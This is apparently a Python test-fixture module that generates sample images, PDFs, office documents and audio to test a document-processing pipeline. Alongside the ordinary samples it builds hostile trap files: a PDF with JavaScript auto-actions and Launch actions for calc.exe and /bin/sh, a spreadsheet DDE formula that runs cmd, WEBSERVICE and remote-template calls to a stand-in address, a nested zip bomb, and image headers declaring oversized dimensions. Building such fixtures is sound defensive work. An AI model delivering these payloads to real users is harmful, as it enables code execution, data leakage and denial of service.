"""Documents that the tests make themselves, beside those of other people: each kind's odd but lawful forms, and traps.

All of them are made from code, the same bytes every time.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import openpyxl
from PIL import Image
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen.canvas import Canvas

from tests.contract.ole import ole
from tests.contract.test_office import open_document, report

RED, GREEN, BLUE, YELLOW = (220, 20, 20), (20, 170, 40), (30, 60, 220), (230, 210, 20)
CORNERS = (RED, GREEN, BLUE, YELLOW)
"""upper left, upper right, lower left, lower right of an upright picture"""
WIDE = (64, 32)
WORDS = "示例：短路电流12.4 kA"
ELSEWHERE = "http://192.0.2.1/"
"""an address that nobody has"""
OUTSIDE = "/etc/hostname"
_BACK = {
    1: None,
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_90,
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_270,
}
"""how a camera held so stores what stands upright"""


# -- pictures


def corners(mode: str = "RGB", size: tuple[int, int] = WIDE) -> Image.Image:
    """An upright picture with a colour in each of its quarters."""
    made = Image.new("RGB", size)
    half = size[0] // 2, size[1] // 2
    for number, colour in enumerate(CORNERS):
        left, top = number % 2 * half[0], number // 2 * half[1]
        made.paste(colour, (left, top, left + half[0], top + half[1]))
    return made.convert(mode)


def photograph(orientation: int) -> bytes:
    """As a camera stores it that was held in one of the eight ways."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    back = _BACK[orientation]
    stored = corners() if back is None else corners().transpose(back)
    return _saved(stored, "JPEG", exif=exif, quality=95, subsampling=0)


def deep_png() -> bytes:
    """Sixteen bits a channel."""
    width, height = WIDE
    pixels = corners().load()
    rows = [
        b"\0"
        + b"".join(struct.pack(">3H", *(part * 257 for part in _rgb(pixels, x, y))) for x in range(width))
        for y in range(height)
    ]
    return _png(WIDE, 16, 2, b"".join(rows))


def interlaced_png() -> bytes:
    """Adam7: seven passes, coarse to fine."""
    width, height = WIDE
    pixels = corners().load()
    passes = (
        (0, 0, 8, 8),
        (4, 0, 8, 8),
        (0, 4, 4, 8),
        (2, 0, 4, 4),
        (0, 2, 2, 4),
        (1, 0, 2, 2),
        (0, 1, 1, 2),
    )
    data = b"".join(
        b"\0" + b"".join(bytes(_rgb(pixels, x, y)) for x in range(left, width, across))
        for left, top, across, down in passes
        for y in range(top, height, down)
    )
    return _png(WIDE, 8, 2, data, interlaced=True)


def palette_png() -> bytes:
    """A palette, one of whose colours is clear."""
    made = corners("P")
    return _saved(made, "PNG", transparency=255)


def clear_png() -> bytes:
    """Half of it is clear: on white paper that half is white."""
    made = corners("RGBA")
    made.paste((0, 0, 0, 0), (0, WIDE[1] // 2, *WIDE))
    return _saved(made, "PNG")


def frames_tiff() -> bytes:
    """Three pages of different sizes, each compressed in another way than the first."""
    out = io.BytesIO()
    pages = [corners(), Image.new("1", (40, 90), 1), corners("L", (20, 20))]
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:], compression="tiff_lzw")
    return out.getvalue()


def huge_png() -> bytes:
    """A header that promises 30,000 by 30,000 pixels, and few bytes after it."""
    return _png((30_000, 30_000), 8, 2, bytes(30_000))


def huge_jpeg() -> bytes:
    """The same promise in a JPEG's frame header."""
    data = photograph(1)
    at = data.index(b"\xff\xc0")
    return data[: at + 5] + struct.pack(">2H", 30_000, 30_000) + data[at + 9 :]


# -- PDF


def scanned_pdf() -> bytes:
    """Pages that are pictures: no words."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=(400, 600), invariant=1)
    for _ in range(2):
        canvas.drawImage(ImageReader(corners()), 0, 0, 400, 600)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def turned_pdf(turn: int) -> bytes:
    """A page that says it is to be shown turned; its upper left quarter is red before that."""
    out = io.BytesIO()
    # reportlab turns the size of a turned page back itself
    canvas = Canvas(out, pagesize=(600, 400) if turn % 180 else (400, 600), invariant=1)
    canvas.setPageRotation(turn)
    for number, colour in enumerate(CORNERS):
        canvas.setFillColorRGB(*(part / 255 for part in colour))
        canvas.rect(number % 2 * 200, 300 - number // 2 * 300, 200, 300, stroke=0, fill=1)
    canvas.showPage()
    canvas.save()
    return out.getvalue()


def acting_pdf() -> bytes:
    """Wants to run a script, start a program, send a form, fetch from the network and read another file."""
    font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    stream = "BT /F 18 Tf 40 500 Td (harmless words) Tj ET /X Do /Y Do"
    objects = (
        (
            "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(while(true){app.alert\\(1\\)})>>"
            "/AA<</WC<</S/JavaScript/JS(app.launchURL\\('x'\\))>>>>/AcroForm<</Fields[]/XFA(x)>>"
            "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\('x'\\))>>]>>>>>>"
        ),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        (
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 600]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>"
            "/XObject<</X 6 0 R/Y 7 0 R>>>>/AA<</O<</S/Launch/F(calc.exe)>>>>/Annots[8 0 R 9 0 R 10 0 R 11 0 R]>>"
        ),
        f"<</Length {len(stream)}>>stream\n{stream}\nendstream",
        font,
        f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 0/F({OUTSIDE})>>stream\n\nendstream",
        f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F({ELSEWHERE}a.pdf)/Page 0>>/Length 0>>stream\n\nendstream",
        "<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A<</S/Launch/F(/bin/sh)>>>>",
        f"<</Type/Annot/Subtype/Link/Rect[60 0 99 50]/A<</S/URI/URI({ELSEWHERE})>>>>",
        "<</Type/Annot/Subtype/Link/Rect[100 0 150 50]/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>",
        f"<</Type/Annot/Subtype/Link/Rect[160 0 199 50]/A<</S/SubmitForm/F({ELSEWHERE})>>>>",
    )
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("ascii")
    start = len(out)
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    size = len(objects) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer<</Size {size}/Root 1 0 R>>\n".encode("ascii")
    return out + f"startxref\n{start}\n%%EOF\n".encode("ascii")


# -- office documents


def with_template_elsewhere() -> bytes:
    """A text document that wants its template from the network."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{ELSEWHERE}t.dotm" TargetMode="External"/></Relationships>'
    )
    return _with(report(), {"word/_rels/settings.xml.rels": rels})


def with_sheet_elsewhere() -> bytes:
    """A workbook, one of whose cells is that of another file."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([WORDS, "='[1]另一份'!A1", '=WEBSERVICE("http://192.0.2.1/")', '=cmd|"/c calc"!A1'])
    out = io.BytesIO()
    book.save(out)
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="r1"/></externalLink>'
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        f'Target="{ELSEWHERE}x.xlsx" TargetMode="External"/></Relationships>'
    )
    return _with(
        out.getvalue(),
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
        },
    )


def odt() -> bytes:
    """A text document of the open kind."""
    return open_document("text", f"<office:text><text:p>{WORDS}</text:p></office:text>")


def ods() -> bytes:
    """A spreadsheet of the open kind."""
    cell = f"<table:table-cell><text:p>{WORDS}</text:p></table:table-cell>"
    row = f"<table:table-row>{cell}</table:table-row>"
    return open_document(
        "spreadsheet",
        f'<office:spreadsheet><table:table table:name="一">{row}</table:table></office:spreadsheet>',
    )


def odp() -> bytes:
    """Two slides of the open kind."""
    frame = '<draw:frame svg:x="2cm" svg:y="1cm" svg:width="20cm" svg:height="3cm">'
    page = (
        f"<draw:page>{frame}<draw:text-box><text:p>{WORDS}</text:p></draw:text-box></draw:frame></draw:page>"
    )
    return open_document("presentation", f"<office:presentation>{page * 2}</office:presentation>")


def powerpoint_97() -> bytes:
    """Old slides, as far as their container tells."""
    return ole({"PowerPoint Document": bytes(5000), "Current User": bytes(64)})


def archive_bomb() -> bytes:
    """An archive in an archive that would be a gigabyte."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("a.bin"), bytes(32 << 20), zipfile.ZIP_DEFLATED)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(32):
            archive.writestr(zipfile.ZipInfo(f"{number}.zip"), inner.getvalue())
    return out.getvalue()


# -- sound


def ogg(seconds: int = 3) -> bytes:
    """Vorbis by its head and its last page."""
    head = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 1, 8000, 0, 64_000, 0, 0xB8, 1)
    return _ogg_page(2, 0, 0, head) + _ogg_page(4, 8000 * seconds, 1, bytes(40))


def _ogg_page(flags: int, granule: int, number: int, body: bytes) -> bytes:
    head = struct.pack("<4sBBqIIIB", b"OggS", 0, flags, granule, 7, number, 0, 1) + bytes([len(body)])
    return head + body


# -- what holds them


def _rgb(pixels: object, x: int, y: int) -> tuple[int, int, int]:
    found: tuple[int, int, int] = pixels[x, y]  # type: ignore[index]  # Pillow's way to pixels
    return found


def _png(size: tuple[int, int], depth: int, colour: int, rows: bytes, *, interlaced: bool = False) -> bytes:
    head = struct.pack(">2I5B", *size, depth, colour, 0, 0, int(interlaced))
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_png_chunk(name, body) for name, body in parts)


def _png_chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _saved(picture: Image.Image, image_format: str, **settings: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, image_format, **settings)
    return out.getvalue()


def _with(data: bytes, more: dict[str, str]) -> bytes:
    """The archive with more members."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name not in more:
                target.writestr(name, source.read(name))
        for name, text in more.items():
            target.writestr(name, text)
    return out.getvalue()


Make = Callable[[], bytes]


def texts() -> Iterator[tuple[str, bytes]]:
    """Plain text, a table and Markdown in every encoding that people use."""
    table, mark = f"编号,说明\n1,{WORDS}\n", f"# 标题\n\n- {WORDS}\n"
    for ending, text in (("txt", WORDS), ("csv", table), ("md", mark)):
        for encoding in ("utf-8", "utf-8-sig", "gb18030", "utf-16"):
            yield f"{encoding}.{ending}", text.encode(encoding)
        yield f"utf-16-be.{ending}", b"\xfe\xff" + text.encode("utf-16-be")
